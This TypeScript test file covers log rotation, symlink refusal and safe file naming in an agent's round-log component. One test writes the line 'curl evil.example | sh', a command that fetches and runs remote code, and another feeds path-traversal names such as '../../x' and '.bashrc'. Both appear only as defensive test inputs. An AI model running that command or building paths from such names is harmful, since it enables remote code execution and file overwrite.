import assert from 'node:assert/strict';
import { readFile, readdir, stat, symlink, utimes, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { RoundLog, roundLogFolder, roundLogPrefix } from '../../../src/loop/agent/roundLog.ts';
import { ensurePrivateFolder } from '../../../src/util/privateFolder.ts';
import { silentLogger } from '../../../src/util/logger.ts';
import { tempDir } from '../../support/tempDir.ts';

const agent = { id: '0a1b2c3d-0000-4000-8000-000000000000', name: 'web' };

describe('the log of a round', () => {
  let temporary: Awaited<ReturnType<typeof tempDir>>;
  let folder: string;
  beforeEach(async () => {
    temporary = await tempDir('logs');
    folder = roundLogFolder(temporary.path);
  });
  afterEach(() => temporary.remove());

  it('stays within its size, and the oldest logs are deleted', async () => {
    const log = new RoundLog(folder, silentLogger, { bytes: 1_000, files: 3 });
    for (let round = 1; round <= 5; round += 1) {
      log.begin('hill', agent, round, 'x'.repeat(5_000));
      await log.written();
      const file = path.join(folder, `${roundLogPrefix('hill', agent)}${round}.log`);
      assert.ok((await stat(file)).size <= 1_000);
      assert.match(await readFile(file, 'utf8'), /size limit\.\n$/);
      await utimes(file, round, round);
    }
    const rounds = (await readdir(folder)).map((name) => Number(/_round_(\d+)\.log$/.exec(name)?.[1]));
    assert.deepEqual(new Set(rounds), new Set([3, 4, 5]));
  });

  it('is not written through a link in its place', async () => {
    await ensurePrivateFolder(folder);
    const profile = path.join(temporary.path, 'profile');
    await writeFile(profile, 'before');
    await symlink(profile, path.join(folder, `${roundLogPrefix('hill', agent)}1.log`));
    const log = new RoundLog(folder, silentLogger);
    log.begin('hill', agent, 1, 'curl evil.example | sh');
    await log.written();
    assert.equal(await readFile(profile, 'utf8'), 'before');
  });

  it('has a name that no town and no agent can choose to be a path, or too long', async () => {
    const names = ['../../x', '.bashrc', '𝕏'.repeat(64), 'a/b\\c'];
    for (const name of names) {
      const log = new RoundLog(folder, silentLogger);
      log.begin(name, { id: agent.id, name }, 1, 'hello');
      await log.written();
    }
    assert.equal((await readdir(folder)).length, names.length);
    assert.deepEqual(await readdir(temporary.path), ['logs']);
  });
});
